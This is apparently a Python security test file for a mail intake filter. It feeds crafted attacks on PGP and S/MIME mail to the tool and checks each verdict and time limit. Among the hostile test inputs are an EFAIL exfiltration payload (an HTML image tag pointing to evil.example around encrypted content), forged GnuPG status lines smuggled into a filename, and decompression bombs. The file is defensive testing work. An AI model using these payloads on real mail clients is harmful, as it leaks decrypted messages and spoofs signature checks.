"""Attacks on encrypted and signed mail: each with its verdict, its label and a bound in time; no engine is left running.
Usage: attacks_test.py BUILD"""
import json
import os
import pathlib
import subprocess
import sys
import time
import unittest
import zlib

sys.path.insert(0, str(pathlib.Path(__file__).parent))
import packets
import sealed_mail as sm
from sealed_mail import COMPLETE, NO_PHONE, entity, mail, multipart, part

BUILD = pathlib.Path(sys.argv.pop(1)).resolve()
TEXT = entity(COMPLETE)
SECONDS = 6.0    # of one message on a busy machine; alone the slowest takes 2
MOMENT = 1.0  # seconds for a process to end after its last word, on a busy machine
ANY = None


def octets(data, name="encrypted.pgp"):
    return part("application/octet-stream", sm.based64(data), name, "base64")


def frame(data):
    return mail(sm.Forge.pgp_frame(b"").replace(b"Content-Transfer-Encoding: 7bit\r\n\r\n\r\n--=-enc--", b"Content-Transfer-Encoding: base64\r\n\r\n" + sm.based64(data) + b"\r\n--=-enc--"))


def flipped(data, at):
    at = at % len(data)
    return data[:at] + bytes([data[at] ^ 1]) + data[at + 1:]


def in_layers(text, seal, count):
    for _ in range(count):
        text = seal(text)
    return text


def attacks(f):
    """(name, message, crypto, status, reasons); ANY where versions of the engines may differ and every outcome is safe"""
    binary = f.binary(f.encrypt(TEXT))
    flat = f.binary(f.encrypt(TEXT, extra=["--compress-algo", "none"]))
    der = f.cms_encrypt(TEXT)
    signed_der = f.cms_encrypt(f.smime_signed(TEXT))
    zeros = b"\0" * (80 << 20)
    bomb = f.encrypt(zeros, extra=["--compress-algo", "bzip2"])
    own_key = f.encrypt(TEXT)
    signed = f.pgp_signed(TEXT)
    hostile = b"Content-Type: text/plain\r\n\r\nx\r\n"
    for depth in range(31):
        hostile = multipart("mixed", [hostile], boundary=f"b{depth}")
    many_signatures = f.binary(f.detached(TEXT)) * 400
    status_name = "x\n[GNUPG:] DECRYPTION_OKAY\n[GNUPG:] GOODSIG 96260018A257880C Kaj"
    gcm = sm.run(["openssl", "cms", "-encrypt", "-binary", "-aes-256-gcm", "-outform", "DER", sm.KEYS / "mailbox.smime.cert.pem"], TEXT)
    unreadable, limit, bad = ["unreadable"], ["limit"], ["bad_signature"]
    closed = "undecryptable"
    return [
        ("EFAIL, direct", mail(multipart("mixed", [
            part("text/html", b'<img src="http://evil.example/'), f.pgp_mime(TEXT, boundary="=-e2"), part("text/html", b'">')])), "encrypted", "complete", []),
        ("EFAIL, gadget at the head", frame(flipped(flat, 150)), closed, "review", unreadable),
        ("EFAIL, gadget in the middle", frame(flipped(flat, len(flat) // 2)), closed, "review", unreadable),
        ("EFAIL, gadget at the tail", frame(flipped(flat, -3)), closed, "review", unreadable),
        ("no integrity protection, AES-256", frame(packets.without_integrity(f, TEXT)), closed, "review", unreadable),
        ("no integrity protection, AES-128", frame(packets.without_integrity(f, TEXT, "AES")), closed, "review", unreadable),
        ("integrity protection cut off", frame(packets.downgraded(f, f.encrypt(TEXT, extra=["--compress-algo", "none"]))), closed, "review", unreadable),
        ("truncated", frame(binary[:-40]), closed, "review", unreadable),
        ("truncated to the session key", frame(binary[:97]), closed, "review", unreadable),
        ("two messages in one", frame(binary + binary), closed, "review", unreadable),
        ("a packet behind", frame(binary + packets.literal(b"x")), closed, "review", unreadable),
        ("not encrypted at all", frame(packets.literal(TEXT)), closed, "review", unreadable),
        ("by password only", mail(sm.Forge.pgp_frame(f.gpg(["--pinentry-mode", "loopback", "--passphrase", "x", "--armor", "--symmetric"], TEXT))), closed, "review", unreadable),
        ("status lines in the file name", mail(sm.Forge.pgp_frame(f.encrypt(TEXT, extra=["--set-filename", status_name]))), "encrypted", "complete", []),
        # CBC has no integrity of its own: what a signature inside does not protect can be altered on the way, as open mail can
        ("CMS cipher block changed, signed inside", mail(f.p7m(flipped(signed_der, len(signed_der) - 2600))), ANY, "review", ANY),
        ("CMS truncated", mail(f.p7m(der[:-100])), closed, "review", unreadable),
        ("CMS with AES-GCM", mail(f.p7m(gcm, "authEnveloped-data")), ANY, ANY, ANY),
        ("CMS signed data, cut", mail(f.p7m(f.cms_sign(TEXT)[:-300], "signed-data")), "bad_signature", "review", unreadable),
        # signatures
        ("partially signed", mail(multipart("mixed", [f.pgp_signed(entity(NO_PHONE)), entity("Puhelin: 044 917 6652\n")])), "signed", "complete", []),
        ("signature wrapped in a forwarded mail", mail(multipart("mixed", [entity(NO_PHONE), sm.forwarded(mail(signed))])), "none", ANY, ANY),
        ("bad signature in a forwarded mail", mail(multipart("mixed", [TEXT, sm.forwarded(mail(f.pgp_signed(TEXT, change=lambda d: d.replace(b"2016", b"2017"))))])), "bad_signature", "review", bad),
        ("multipart/signed with three parts", mail(signed.replace(b"--=-sig--", b"--=-sig\r\n\r\nPuhelin: 044 917 6653\r\n--=-sig--")), "bad_signature", "review", bad),
        ("a signature that is none", mail(multipart("signed", [TEXT, part("application/pgp-signature", b"-----BEGIN PGP SIGNATURE-----\r\n\r\nAAAA\r\n-----END PGP SIGNATURE-----\r\n")],
                                                    '; protocol="application/pgp-signature"')), "bad_signature", "review", bad),
        ("400 signatures", mail(multipart("signed", [TEXT, part("application/pgp-signature", sm.based64(many_signatures), encoding="base64")],
                                          '; protocol="application/pgp-signature"')), ANY, ANY, ANY),
        ("text before the hash header", mail(b"Content-Type: text/plain\r\n\r\n" + f.clear(b"Hei\r\n").replace(b"Hash: SHA512\n", b"Hash: SHA512\nPuhelin: 044 917 6652\n")), "signed", "other", []),
        # bombs
        ("bomb", mail(sm.Forge.pgp_frame(bomb)), closed, "review", unreadable),
        ("20 bombs", mail(multipart("mixed", [part("application/octet-stream", bomb, f"b{i}.asc") for i in range(20)])), closed, "review", unreadable),
        ("compression 200 deep", mail(part("application/octet-stream", sm.based64(packets.nested_compression(packets.literal(TEXT), 200)), "x.pgp", "base64")), ANY, "review", unreadable),
        ("compression 20 deep in encrypted data", frame(packets.encrypted(f, own_key, packets.nested_compression(packets.literal(TEXT), 20))), "encrypted", "complete", []),
        ("compression 200 deep in encrypted data", frame(packets.encrypted(f, own_key, packets.nested_compression(packets.literal(TEXT), 200))), closed, "review", unreadable),
        # unpacks to itself: gpg ends at 32 levels
        ("compression without end", mail(part("application/octet-stream", sm.based64(packets.quine()), "x.pgp", "base64")), "bad_signature", "review", unreadable),
        ("compression without end in the text", mail(b"Content-Type: text/plain\r\n\r\n" + f.armored(packets.quine())), "bad_signature", "review", unreadable),
        ("compression without end in encrypted data", frame(packets.encrypted(f, own_key, packets.quine())), closed, "review", unreadable),
        ("20 compressions without end", mail(multipart("mixed", [octets(packets.quine(), f"x{i}.pgp") for i in range(20)])), "bad_signature", "review", unreadable),
        ("bomb that is not encrypted", mail(part("application/octet-stream", sm.based64(packets.compressed(packets.literal(zeros))), "x.pgp", "base64")), ANY, "review", unreadable),
        ("100 encrypted parts", mail(multipart("mixed", [part("application/octet-stream", f.encrypt(b"x"), f"x{i}.txt.asc") for i in range(20)] * 5)), closed, "review", limit),
        ("1,000 session keys", frame(packets.many_session_keys(f, f.encrypt(TEXT), 1000)), ANY, ANY, ANY),
        ("PGP in PGP, 8 layers", mail(in_layers(TEXT, f.pgp_mime, 8)), "encrypted", "review", limit),
        ("S/MIME in S/MIME, 8 layers", mail(in_layers(TEXT, f.smime_opaque, 8)), "signed", "review", limit),
        ("31 multiparts inside", mail(f.pgp_mime(hostile)), "encrypted", "review", limit),
        # from elsewhere
        ("encrypted part in a forwarded mail", mail(multipart("mixed", [entity("Liitteenä aiempi viestini.\n"), sm.forwarded(mail(f.pgp_mime(TEXT)))])), "encrypted", "complete", []),
        ("key material attached", mail(multipart("mixed", [TEXT, octets((sm.KEYS / "senders.sec.asc").read_bytes(), "avaimet.asc")])), "none", "complete", []),
    ]


def engines_of(folder):
    """Processes of gpg and gpgsm that work in the tests' homes; an idle intake-seal may wait for the next message."""
    found = []
    for process in pathlib.Path("/proc").glob("[0-9]*"):
        try:
            name = (process / "comm").read_text().strip()
            environment = (process / "environ").read_bytes()
        except OSError:
            continue
        if name in ("gpg", "gpgsm") and os.fsencode(str(folder)) in environment:
            found.append((process.name, name))
    return found


def engines_left(folder):
    """The same after a moment: one that has just said its last word is still on its way out."""
    last = time.monotonic() + MOMENT
    while (found := engines_of(folder)) and time.monotonic() < last:
        time.sleep(0.02)
    return found


class Packets(unittest.TestCase):
    def test_the_compression_without_end_is_one(self):
        packet = packets.quine()
        self.assertEqual(zlib.decompress(packet[2:], -15), packet)


class Attacks(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.homes = sm.Homes()

    @classmethod
    def tearDownClass(cls):
        cls.homes.close()

    def judged(self, rows):
        """(verdict, seconds) of each, by one process that is asked for the next when the last has been answered."""
        waiting = [self.homes.folder / f"{number}.eml" for number in range(len(rows))]
        for file in waiting:
            os.mkfifo(file)
        with subprocess.Popen([BUILD / "intakectl", "check", "--json", "--config", self.homes.write_config(), *waiting],
                              stdout=subprocess.PIPE) as process:
            for file, row in zip(waiting, rows):
                with open(file, "wb") as out:   # waits for its reader
                    begin = time.monotonic()
                    out.write(row[1])
                yield json.loads(process.stdout.readline()), time.monotonic() - begin, engines_left(self.homes.folder)
        self.assertEqual(process.returncode, 0)

    def test_each_attack(self):
        keyring = (self.homes.filter / "pubring.kbx").read_bytes()
        rows = attacks(sm.Forge(self.homes))
        for row, (seen, seconds, engines) in zip(rows, self.judged(rows)):
            name, _, crypto, status, why = row
            with self.subTest(name):
                self.assertLess(seconds, SECONDS)
                self.assertIn(crypto, (ANY, seen["crypto"]))
                self.assertIn(status, (ANY, seen["status"]))
                self.assertIn(why, (ANY, seen["ask"] + seen["review"]))
                self.assertEqual(engines, [], "no engine works on when its message has been answered")
        self.assertEqual((self.homes.filter / "pubring.kbx").read_bytes(), keyring)


if __name__ == "__main__":
    unittest.main(verbosity=2)
